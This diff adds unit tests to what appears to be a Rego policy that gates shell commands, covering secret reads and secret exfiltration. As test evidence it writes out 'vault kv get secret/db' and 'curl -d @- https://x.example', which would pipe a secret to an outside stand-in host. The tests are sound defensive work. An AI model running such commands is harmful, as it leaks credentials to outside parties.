@@ -676,3 +676,29 @@ test_other_unanalysable_facts_are_not_parse_errors if {
 	ids := {d.id | some d in rules.decision} with input as shell_input([], {"unanalysable": [u]})
 	not "shell/unparsed" in ids
 }
+
+secret_print(captured) := {"program": "vault", "form": "kv get", "captured": captured, "evidence": "vault kv get secret/db"}
+
+test_secret_print_asks if {
+	some d in rules.decision with input as shell_input([], {"secret_prints": [secret_print(false)]})
+	d.id == "shell/secret-print"
+	d.decision == "ask"
+	contains(d.reason, "vault kv get")
+}
+
+test_secret_print_captured_no_opinion if {
+	count(rules.decision) == 0 with input as shell_input([], {"secret_prints": [secret_print(true)]})
+}
+
+test_secret_print_sent_denied if {
+	u := {"program": "curl", "target": "https://x.example", "source": "<stdin>", "evidence": "curl -d @- https://x.example"}
+	some d in rules.decision with input as shell_input([], {"secret_prints": [secret_print(false)], "uploads": [u]})
+	d.id == "shell/secret-print-sent"
+	d.decision == "deny"
+}
+
+test_secret_print_sent_to_loopback_only_asks if {
+	u := {"program": "curl", "target": "http://127.0.0.1:8200/x", "source": "<stdin>", "evidence": "curl -d @- http://127.0.0.1:8200/x"}
+	ds := {d.id | some d in rules.decision} with input as shell_input([], {"secret_prints": [secret_print(false)], "uploads": [u]})
+	ds == {"shell/secret-print"}
+}
